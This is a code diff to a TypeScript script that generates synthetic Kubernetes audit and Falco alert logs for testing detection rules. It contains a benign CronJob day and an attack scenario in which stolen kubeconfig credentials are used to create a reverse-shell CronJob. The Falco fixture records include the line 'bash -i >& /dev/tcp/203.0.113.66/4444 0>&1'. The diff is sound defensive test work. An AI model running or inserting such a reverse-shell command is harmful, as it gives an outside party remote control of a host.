@@ -6,7 +6,9 @@
  * Benign: the cronjob-controller/job-controller running three legitimate CronJobs (db-backup
  * nightly, daily-report on weekdays, queue-drain every 15 minutes) with their Jobs and Pods,
  * kube-state-metrics watching CronJobs, CI deploying the web Deployment and bumping the
- * report CronJob's image tag, admins running kubectl get pods / describe.
+ * report CronJob's image tag, admins running kubectl get pods / describe. Every job pod gets
+ * the kubelet's `pods/status` patch with its container ids (what lineage joins endpoint
+ * events on), and the node's Falco alerts cover the pods' processes (`falco-node.jsonl`).
  *
  * Run: `npx tsx scripts/gen-samples.ts`.
  */
@@ -26,15 +28,20 @@ import {
   audit,
   BACKUP,
   type CronJobOptions,
+  clockNow,
   createCronJob,
   createJob,
   cronJob,
+  falcoAlert,
   jobOfCronJob,
   PEOPLE,
   podOfJob,
+  podStatus,
   REPORT,
   REVERSE_SHELL,
+  type StartedPod,
   setClock,
+  startedPod,
   workload,
 } from './gen-rule-tests.js';
 
@@ -67,6 +74,7 @@ const adminWs: Timed[] = [];
 const bastion: Timed[] = [];
 const node: Timed[] = [];
 const activity: { record: Json; story: string }[] = [];
+const falco: Timed[] = [];
 
 function at(hour: number, minute: number, second = 0): number {
   return DAY + ((hour * 60 + minute) * 60 + second) * 1000 - 37_000;
@@ -97,22 +105,64 @@ const QUEUE_DRAIN: CronJobOptions = {
   ],
 };
 
-function scheduledRun(cron: CronJobOptions, hour: number, minute: number): void {
+/** The node every job pod of the day runs on, as the kubelet names itself. */
+const NODE_NAME = NODE.computer;
+
+/** Job and pod of one scheduled run, the pod's status patch; returns the started pod. */
+function scheduledRun(
+  cron: CronJobOptions,
+  hour: number,
+  minute: number,
+  story?: string,
+): StartedPod {
   const minutes = Math.floor((DAY + (hour * 60 + minute) * 60_000) / 60_000);
-  auditAt(hour, minute, () => jobOfCronJob(cron, minutes));
+  auditAt(hour, minute, () => jobOfCronJob(cron, minutes), story);
   // The job-controller creates the pod a few seconds after the Job.
+  let podEvent: Json = {};
   auditAt(
     hour,
     minute,
-    () => podOfJob(`${cron.name}-${minutes}`, cron.namespace, cron.containers),
-    undefined,
+    () => {
+      podEvent = podOfJob(`${cron.name}-${minutes}`, cron.namespace, cron.containers);
+      return podEvent;
+    },
+    story,
     45,
   );
+  const pod = startedPod(podEvent, cron.containers);
+  // The kubelet reports the running container a few seconds later.
+  auditAt(hour, minute + 1, () => podStatus(pod, NODE_NAME), story, 2);
+  return pod;
+}
+
+function pushFalco(timeMs: number, record: Json, story?: string): void {
+  push(falco, timeMs, record, story);
 }
 
 // --- benign day -------------------------------------------------------------------------
 for (let hour = 0; hour < 24; hour++) {
-  for (const minute of [0, 15, 30, 45]) scheduledRun(QUEUE_DRAIN, hour, minute);
+  for (const minute of [0, 15, 30, 45]) {
+    const pod = scheduledRun(QUEUE_DRAIN, hour, minute);
+    // Falco's default "Contact K8S API Server From Container" fires on every drain run at
+    // 09:00–09:45 (a rule-tuning day): a job pod's benign process, no shell, no finding.
+    if (hour === 9)
+      pushFalco(
+        at(hour, minute + 1, 45),
+        falcoAlert(at(hour, minute + 1, 45), pod, NODE_NAME, {
+          rule: 'Contact K8S API Server From Container',
+          priority: 'Notice',
+          evtType: 'connect',
+          exe: '/app/queue-drain',
+          cmdline: 'queue-drain --max=500',
+          parentExe: '/usr/bin/containerd-shim-runc-v2',
+          parentCmdline: 'containerd-shim-runc-v2 -namespace k8s.io',
+          pid: 1,
+          sip: '10.0.0.1',
+          sport: 443,
+          tags: ['T1565', 'container', 'k8s', 'maturity_stable', 'mitre_discovery', 'network'],
+        }),
+      );
+  }
   auditAt(hour, 7, () =>
     audit({
       verb: 'list',
@@ -200,20 +250,52 @@ auditAt(
   () => createCronJob(PEOPLE.mallory, REVERSE_SHELL, { sourceIP: '203.0.113.66' }),
   'S1-stolen-kubeconfig-reverse-shell',
 );
+// The job pod's processes: Falco on the node sees the shell and its outbound connection.
 for (const minute of [3, 4]) {
-  const minutes = Math.floor((DAY + (14 * 60 + minute) * 60_000) / 60_000);
-  auditAt(
-    14,
-    minute,
-    () => jobOfCronJob(REVERSE_SHELL, minutes),
-    'S1-stolen-kubeconfig-reverse-shell',
+  const story = 'S1-stolen-kubeconfig-reverse-shell';
+  const pod = scheduledRun(REVERSE_SHELL, 14, minute, story);
+  const shell = {
+    exe: '/bin/bash',
+    cmdline: 'bash -i',
+    parentExe: '/bin/sh',
+    parentCmdline: 'sh -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1',
+    pid: 9,
+  };
+  const started = at(14, minute + 1, 40);
+  pushFalco(
+    started,
+    falcoAlert(started, pod, NODE_NAME, {
+      ...shell,
+      rule: 'Run shell untrusted',
+      priority: 'Notice',
+      evtType: 'execve',
+      // The second run's alert comes before Falco has the pod's metadata.
+      podKnown: minute === 3,
+      tags: [
+        'T1059.004',
+        'container',
+        'host',
+        'maturity_stable',
+        'mitre_execution',
+        'process',
+        'shell',
+      ],
+    }),
+    story,
   );
-  auditAt(
-    14,
-    minute,
-    () => podOfJob(`${REVERSE_SHELL.name}-${minutes}`, 'default', REVERSE_SHELL.containers),
-    'S1-stolen-kubeconfig-reverse-shell',
-    45,
+  pushFalco(
+    started + 1000,
+    falcoAlert(started + 1000, pod, NODE_NAME, {
+      ...shell,
+      rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
+      priority: 'Notice',
+      evtType: 'dup2',
+      sip: '203.0.113.66',
+      sport: 4444,
+      podKnown: minute === 3,
+      tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'network', 'process'],
+    }),
+    story,
   );
 }
 // S2: a web pod's service-account token creates a Job.
@@ -442,6 +524,7 @@ const SCENARIO_FILES = [
   'sysmon-admin-ws.xml',
   'auditd-bastion.log',
   'sysmon-node.xml',
+  'falco-node.jsonl',
 ];
 
 function writeLines(file: string, records: Timed[]): void {
@@ -459,6 +542,7 @@ writeLines('audit.jsonl', audits);
 writeLines('sysmon-admin-ws.xml', adminWs);
 writeLines('auditd-bastion.log', bastion);
 writeLines('sysmon-node.xml', node);
+writeLines('falco-node.jsonl', falco);
 activity.sort((a, b) => String(a.record.time).localeCompare(String(b.record.time)));
 writeFileSync(
   `${OUT}activity-log.jsonl`,
